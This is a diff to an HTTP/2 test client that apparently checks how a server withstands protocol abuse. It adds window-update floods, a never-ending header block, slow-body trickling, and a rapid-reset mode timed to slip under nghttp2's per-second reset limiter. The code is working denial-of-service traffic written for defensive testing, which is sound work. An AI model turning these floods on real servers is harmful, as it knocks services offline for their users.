@@ -27,6 +27,38 @@ only: socket, ssl, struct; HPACK as literal fields, never Huffman).
                      SETTINGS_MAX_CONCURRENT_STREAMS, each refused
       header-431     one GET whose header list is 20000 bytes (over
                      SETTINGS_MAX_HEADER_LIST_SIZE, under the bomb bound)
+      window-flood   5000 WINDOW_UPDATE frames (increment 1) on the
+                     connection, for no DATA at all
+      lower-id       a GET on stream 5, then a HEADERS on stream 3 (lower
+                     than one already used: RFC 9113 5.1.1)
+      head-stall     HEADERS without END_HEADERS, then nothing: the block
+                     never ends; also prints " after S" (seconds to the
+                     GOAWAY, or to the end of the wait)
+      idle-close     nothing after SETTINGS (and its ACK): the connection
+                     sits idle until the server ends it
+      trailers       a PUT /tr whose body ("v") is followed by trailers (a
+                     HEADERS on the same stream, END_STREAM); prints the
+                     answers as usual (one, and no GOAWAY)
+
+  h2_client.py rapid-reset-paced PORT [CAFILE]
+      rapid reset in two batches, timed against CLOCK_MONOTONIC's seconds
+      (the clock nghttp2's own reset limit refills by, a whole second's
+      tokens at once): 150 HEADERS + RST_STREAM pairs just after a second
+      begins, 100 more just before it ends, then 400 more if nothing has
+      ended the connection; prints as ATTACK does
+  h2_client.py ping-idle PORT [CAFILE]
+      no stream, a PING every 0.5 s for up to 20 s, until the server ends
+      the connection; prints "goaway CODE" or "none", " closed" and
+      " after S" (seconds)
+  h2_client.py slow-body PORT N HOLD [CAFILE]
+      N PUT streams (content-length 200000), 16000 body bytes on each,
+      then "loaded"; then a byte on each stream every 0.5 s (far below
+      any --body-min-rate) for up to 15 s, until each stream was reset
+      or the connection ended.  Prints "reset R code C goaway G"
+      (RST_STREAMs received, the last one's code, the GOAWAY's code or
+      none), then " served S" (streams answered on the same connection
+      afterwards, when it is still open: a GET) and " closed"; then keeps
+      the connection open HOLD seconds more
 
   h2_client.py put-get PORT [CAFILE]
       one write: PUT /pg (body "v") on stream 1, then GET /k on streams 3,
@@ -121,6 +153,21 @@ def attack(name):
     elif name == "stream-flood":
         for i in range(2000):
             out.append(frame(HEADERS, END_HEADERS, 1 + 2 * i, request(b"/")))
+    elif name == "window-flood":
+        out = [frame(WINDOW, 0, 0, struct.pack(">I", 1))] * 5000
+    elif name == "lower-id":
+        out.append(frame(HEADERS, END_STREAM | END_HEADERS, 5, request(b"/k")))
+        out.append(frame(HEADERS, END_STREAM | END_HEADERS, 3, request(b"/k")))
+    elif name == "head-stall":
+        out.append(frame(HEADERS, END_STREAM, 1, request(b"/k")))
+    elif name == "idle-close":
+        pass
+    elif name == "trailers":
+        put = request(b"/tr", b"PUT", literal(b"content-length", b"1"))
+        out.append(frame(HEADERS, END_HEADERS, 1, put))
+        out.append(frame(DATA, 0, 1, b"v"))
+        out.append(frame(HEADERS, END_STREAM | END_HEADERS, 1,
+                         literal(b"x-trailer", b"1")))
     elif name == "header-431":
         extra = literal(b"x-big", b"b" * 20000)
         block = request(b"/k", extra=extra)
@@ -244,8 +291,132 @@ def term(s):
     print(line.strip())
 
 
+def pairs(first, n):
+    """N HEADERS + RST_STREAM(CANCEL) pairs from stream FIRST on."""
+    return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, first + 2 * i,
+                          request(b"/k")) +
+                    frame(RST, 0, first + 2 * i, struct.pack(">I", 0x8))
+                    for i in range(n))
+
+
+def until_fraction(lo, hi):
+    """Sleeps until CLOCK_MONOTONIC's fraction of a second is in [lo, hi)."""
+    while True:
+        f = time.monotonic() % 1.0
+        if lo <= f < hi:
+            return
+        time.sleep(((lo - f) % 1.0) or 0.001)
+
+
+def watch(s, buf, seen, wait):
+    """Reads frames for up to WAIT seconds, or until the connection ends;
+    notes the first GOAWAY's code, EOF and answers in SEEN."""
+    deadline = time.time() + wait
+    s.settimeout(0.05)
+    while time.time() < deadline and not seen.get("closed"):
+        got, buf, eof = frames(s, buf)
+        for ftype, flags, sid, payload in got:
+            if ftype == GOAWAY and "goaway" not in seen:
+                seen["goaway"] = struct.unpack(">I", payload[4:8])[0]
+            elif ftype == HEADERS:
+                seen["answers"] = seen.get("answers", 0) + 1
+            elif ftype == RST:
+                seen.setdefault("rst", {})[sid] = struct.unpack(">I", payload)[0]
+            elif ftype == SETTINGS and not flags & ACK:
+                send(s, frame(SETTINGS, ACK, 0))
+        if eof:
+            seen["closed"] = True
+    return buf
+
+
+def send(s, data):
+    try:
+        s.sendall(data)
+        return True
+    except OSError:
+        return False
+
+
+def rapid_reset_paced(s):
+    seen, buf = {}, b""
+    until_fraction(0.02, 0.2)
+    send(s, pairs(1, 150))
+    buf = watch(s, buf, seen, 0.3)
+    until_fraction(0.88, 0.95)
+    send(s, pairs(301, 100))
+    buf = watch(s, buf, seen, 1.0)
+    if "goaway" not in seen and not seen.get("closed"):
+        send(s, pairs(501, 400))
+    watch(s, buf, seen, 20)
+    line = "goaway 0x%x" % seen["goaway"] if "goaway" in seen else "none"
+    if seen.get("closed"):
+        line += " closed"
+    print(line + " answers %d" % seen.get("answers", 0))
+
+
+def ping_idle(s):
+    seen, buf, started = {}, b"", time.time()
+    while time.time() < started + 20 and not seen.get("closed"):
+        if not send(s, frame(PING, 0, 0, b"keepaliv")):
+            break
+        buf = watch(s, buf, seen, 0.5)
+    line = "goaway 0x%x" % seen["goaway"] if "goaway" in seen else "none"
+    if seen.get("closed"):
+        line += " closed"
+    print(line + " after %d" % int(time.time() - started))
+
+
+def slow_body(s, n, hold):
+    put = request(b"/slow", b"PUT", literal(b"content-length", b"200000"))
+    send(s, b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, put)
+                     for i in range(n)))
+    # 16000 bytes on each stream take the connection's window past the
+    # 65535 it starts with: wait for the server's WINDOW_UPDATE first
+    buf, deadline, opened = b"", time.time() + 10, False
+    while not opened and time.time() < deadline:
+        got, buf, eof = frames(s, buf)
+        for ftype, flags, sid, payload in got:
+            if ftype == WINDOW and sid == 0:
+                opened = True
+            elif ftype == SETTINGS and not flags & ACK:
+                send(s, frame(SETTINGS, ACK, 0))
+        if eof:
+            break
+    send(s, b"".join(frame(DATA, 0, 1 + 2 * i, b"d" * 16000)
+                     for i in range(n)))
+    print("loaded", flush=True)
+    seen, deadline = {"rst": {}}, time.time() + 15
+    while time.time() < deadline:
+        if seen.get("closed") or "goaway" in seen or len(seen["rst"]) >= n:
+            break
+        send(s, b"".join(frame(DATA, 0, 1 + 2 * i, b"t") for i in range(n)
+                         if 1 + 2 * i not in seen["rst"]))
+        buf = watch(s, buf, seen, 0.5)
+    line = "reset %d code 0x%x goaway " % (
+        len(seen["rst"]), max(seen["rst"].values()) if seen["rst"] else 0)
+    line += "0x%x" % seen["goaway"] if "goaway" in seen else "none"
+    served = 0
+    if not seen.get("closed") and "goaway" not in seen:
+        seen["answers"] = 0
+        send(s, frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * n,
+                      request(b"/k")))
+        buf = watch(s, buf, seen, 5)
+        served = seen["answers"]
+    line += " served %d" % served
+    if seen.get("closed"):
+        line += " closed"
+    print(line, flush=True)
+    deadline = time.time() + hold
+    while time.time() < deadline and not seen.get("closed"):
+        buf = watch(s, buf, seen, 0.5)
+
+
 def main():
     name, port = sys.argv[1], int(sys.argv[2])
+    if name == "slow-body":
+        s = connect(port, sys.argv[5] if len(sys.argv) > 5 else None)
+        s.sendall(PREFACE + frame(SETTINGS, 0, 0))
+        return slow_body(s, int(sys.argv[3]), float(sys.argv[4]))
     if name == "idle":
         cafile = sys.argv[5] if len(sys.argv) > 5 else None
     else:
@@ -292,6 +463,23 @@ def main():
         return term(s)
     if name == "idle":
         return idle(s, sys.argv[3].encode(), sys.argv[4].encode())
+    if name == "rapid-reset-paced":
+        return rapid_reset_paced(s)
+    if name == "ping-idle":
+        return ping_idle(s)
+    if name == "head-stall":
+        # the SETTINGS ACK first: a frame other than CONTINUATION inside
+        # the block would be a protocol error of ours
+        buf, acked = b"", False
+        while not acked:
+            got, buf, eof = frames(s, buf)
+            for ftype, flags, sid, payload in got:
+                if ftype == SETTINGS and not flags & ACK:
+                    s.sendall(frame(SETTINGS, ACK, 0))
+                    acked = True
+            if eof or eof is None:
+                break
+    started = time.time()
     try:
         s.sendall(attack(name))
     except OSError:
@@ -328,13 +516,16 @@ def main():
                     s.sendall(frame(SETTINGS, ACK, 0))
                 except OSError:
                     pass
-        if name in ("streams", "header-431") and (answers or refused):
+        if name in ("streams", "header-431", "trailers") and (answers or refused):
             # these are answered per stream; give the rest a moment
             deadline = min(deadline, time.time() + 1)
+            s.settimeout(max(0.05, deadline - time.time()))
     line = "goaway 0x%x" % goaway if goaway is not None else "none"
     if closed:
         line += " closed"
     line += " answers %d" % answers
+    if name == "head-stall":
+        line += " after %d" % int(time.time() - started)
     if name == "streams":
         line += " refused %d" % refused
     print(line)
